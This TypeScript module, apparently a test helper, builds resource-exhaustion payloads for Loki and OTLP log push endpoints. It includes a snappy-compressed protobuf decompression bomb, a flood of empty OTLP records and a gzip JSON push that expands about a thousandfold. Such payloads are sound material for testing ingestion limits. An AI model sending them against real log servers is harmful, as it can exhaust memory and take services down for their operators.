import { gzipSync } from 'node:zlib';

/** A small push that is expensive to process. */
export interface Attack {
  readonly path: string;
  readonly type: string;
  readonly encoding?: string;
  readonly body: Buffer;
}

/** A varint of protobuf and snappy: seven bits per byte. */
function varint(value: number): Buffer {
  const bytes: number[] = [];
  let left = value;
  for (; left > 127; left = Math.floor(left / 128)) bytes.push((left % 128) + 128);
  return Buffer.from([...bytes, left]);
}

/** A length-delimited protobuf field. */
function field(number: number, content: Buffer): Buffer {
  return Buffer.concat([Buffer.from([number * 8 + 2]), varint(content.length), content]);
}

const copyBytes = 64;

/** Snappy data of a prefix and two repeated bytes, which takes three bytes per 64 bytes of output. */
function snappyRepeated(beginning: Buffer, pair: Buffer, total: number): Buffer {
  const literal = Buffer.concat([beginning, pair]);
  const copies = Math.floor((total - literal.length) / copyBytes);
  const size = literal.length + copies * copyBytes;
  const copy = Buffer.from([(copyBytes - 1) * 4 + 2, pair.length, 0]);
  return Buffer.concat([
    varint(size),
    Buffer.from([(literal.length - 1) * 4]),
    literal,
    Buffer.alloc(copies * copy.length, copy),
  ]);
}

/** A protobuf push of empty entries. @param bytes - size before compression */
export function emptyEntries(bytes: number): Attack {
  const labels = field(1, Buffer.from('{job="attack"}'));
  const pair = Buffer.from([2 * 8 + 2, 0]);
  // The header of the stream contains the length of what follows it.
  const head = (length: number): Buffer => Buffer.concat([Buffer.from([8 + 2]), varint(length), labels]);
  const literal = head(bytes).length + pair.length;
  const size = literal + Math.floor((bytes - literal) / copyBytes) * copyBytes;
  const beginning = head(size - (head(bytes).length - labels.length));
  return {
    path: '/loki/api/v1/push',
    type: 'application/x-protobuf',
    body: snappyRepeated(beginning, pair, bytes),
  };
}

/** An uncompressed OTLP push of empty records. */
export function emptyRecords(bytes: number): Attack {
  const records = Buffer.alloc(bytes - 32, Buffer.from([2 * 8 + 2, 0]));
  return { path: '/otlp/v1/logs', type: 'application/x-protobuf', body: field(1, field(2, records)) };
}

/** A gzip-compressed JSON push with one long line, which shrinks to about a thousandth. */
export function longLine(bytes: number, path: '/loki/api/v1/push' | '/otlp/v1/logs'): Attack {
  const time = `${Date.now()}000000`;
  const marker = '@';
  const text =
    path === '/otlp/v1/logs'
      ? { resourceLogs: [{ scopeLogs: [{ logRecords: [{ timeUnixNano: time, body: { stringValue: marker } }] }] }] }
      : { streams: [{ stream: { job: 'attack' }, values: [[time, marker]] }] };
  const [before, after] = JSON.stringify(text).split(marker) as [string, string];
  const body = gzipSync(Buffer.concat([Buffer.from(before), Buffer.alloc(bytes, 'a'), Buffer.from(after)]));
  return { path, type: 'application/json', encoding: 'gzip', body };
}
